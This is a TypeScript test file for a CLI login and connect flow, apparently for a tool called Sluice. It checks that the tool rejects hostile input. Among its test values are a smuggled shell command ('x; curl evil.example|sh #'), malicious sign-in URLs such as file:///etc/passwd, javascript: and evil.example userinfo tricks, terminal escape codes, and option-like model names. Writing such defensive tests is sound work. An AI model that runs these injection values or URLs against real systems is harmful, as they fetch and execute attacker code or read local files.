import { afterAll, beforeEach, expect, test } from "bun:test";
import { chmodSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { newSecret } from "../../src/keys/secret.ts";
import { newFolder } from "../support/new-folder.ts";
import { program } from "../support/process.ts";
import { waitFor } from "../support/wait.ts";
import { newPlace, sluice } from "./fixtures.ts";

/** What the gateway that the person logs in at answers. */
let grant: Record<string, unknown> = {};
let token = "";
let models: string[] = [];
const gateway = Bun.serve({
  port: 0,
  hostname: "127.0.0.1",
  fetch(request) {
    const { origin, pathname } = new URL(request.url);
    if (pathname === "/.well-known/oauth-authorization-server") {
      return Response.json({
        issuer: origin,
        device_authorization_endpoint: `${origin}/device`,
        token_endpoint: `${origin}/token`,
      });
    }
    if (pathname === "/device") return Response.json(grant);
    if (pathname === "/token") return Response.json({ access_token: token });
    if (pathname === "/v1/models") return Response.json({ data: models.map((id) => ({ id })) });
    return new Response(null, { status: 404 });
  },
});
const { origin, port } = gateway.url;

const folder = newFolder();
const opened = join(folder, "opened");
for (const command of ["xdg-open", "open"]) {
  writeFileSync(
    join(folder, command),
    `#!/bin/sh\nprintf '%s\\n' "$@" > ${opened}.part; mv ${opened}.part ${opened}\n`,
  );
  chmodSync(join(folder, command), 0o755);
}
afterAll(async () => {
  await gateway.stop(true);
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(() => {
  const uri = `${origin}/usage/device`;
  grant = { device_code: "d", user_code: "BCDF-GHJK", verification_uri: uri, expires_in: 900, interval: 1 };
  token = newSecret();
  models = ["m"];
  rmSync(opened, { force: true });
});

/** On a terminal, where a browser is opened. */
async function loginOnTerminal(): Promise<{ readonly code: number; readonly printed: string }> {
  let printed = "";
  const decoder = new TextDecoder();
  const data = (_: unknown, chunk: Uint8Array) => {
    printed += decoder.decode(chunk, { stream: true });
  };
  const child = Bun.spawn([...program(), "login", origin], {
    env: { HOME: folder, PATH: `${folder}:${process.env["PATH"]}` },
    terminal: { cols: 200, rows: 50, data },
  });
  return { code: await child.exited, printed };
}

test("login opens the gateway's own page", async () => {
  const { code, printed } = await loginOnTerminal();
  expect({ code, printed }).toMatchObject({ code: 0, printed: expect.stringContaining(token) });
  await waitFor(() => existsSync(opened), "the browser");
  expect(readFileSync(opened, "utf8")).toBe(`${origin}/usage/device\n`);
}, 30_000);

test.each([
  "file:///etc/passwd",
  "javascript:alert(1)",
  "vscode://open",
  "https://evil.example/usage/device",
  `http://127.0.0.1:${port}@evil.example/`,
  `http://evil.example@127.0.0.1:${port}/`,
  "--help",
])(
  "login neither opens nor accepts the page %s",
  async (page) => {
    for (const field of ["verification_uri", "verification_uri_complete"]) {
      const said = await sluice(newPlace(), "login", origin, "--no-browser");
      expect(said.code).toBe(0);
      grant = { ...grant, [field]: page };
      const refused = await sluice(newPlace(), "login", origin, "--no-browser");
      expect(refused).toMatchObject({ code: 1, stdout: "" });
      expect(refused.stderr).toContain(`the sign-in page is not at ${origin}`);
      expect(refused.stderr).not.toContain("Open ");
      delete grant[field];
      grant["verification_uri"] ??= `${origin}/usage/device`;
    }
  },
  60_000,
);

test.each(["x; curl evil.example|sh #", "sk-proj-0123456789", "slu_short", `${newSecret()}\n`])(
  "login accepts no key %j",
  async (key) => {
    token = key;
    const { code, stdout, stderr } = await sluice(newPlace(), "login", origin, "--no-browser");
    expect({ code, stdout }).toEqual({ code: 1, stdout: "" });
    expect(stderr).toContain("not a Sluice key");
  },
  30_000,
);

test("login shows no code that changes what a terminal shows", async () => {
  grant["user_code"] = "\u001b[2JBCDF";
  const { code, stderr } = await sluice(newPlace(), "login", origin, "--no-browser");
  expect(code).toBe(1);
  expect(stderr).not.toContain("\u001b");
});

test("login waits no longer than the code is valid, whatever interval is asked for", async () => {
  grant = { ...grant, interval: 1_000_000, expires_in: 1 };
  const { code } = await sluice(newPlace(), "login", origin, "--no-browser");
  expect(code).toBe(0);
}, 15_000);

test("connect chooses no model that looks like an option or has control characters", async () => {
  models = ["--dangerously-skip-permissions", "a\u001b[2J", "two words", "fine;true"];
  const { stdout } = await sluice(newPlace(), "connect", "claude-code", "--url", origin, "--key", "slu_x");
  expect(stdout).toContain("claude --model 'fine;true'");
  for (const id of models.slice(0, 3)) expect(stdout).not.toContain(id);
});
